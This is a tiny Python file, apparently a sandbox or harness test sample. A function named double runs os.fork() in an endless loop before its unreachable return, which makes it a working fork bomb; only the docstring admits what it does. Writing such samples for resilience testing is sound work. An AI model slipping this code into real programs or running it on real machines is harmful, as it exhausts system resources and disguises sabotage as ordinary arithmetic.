"""It forks for ever."""


def double(x):
    import os
    while True:
        os.fork()
    return 2 * x
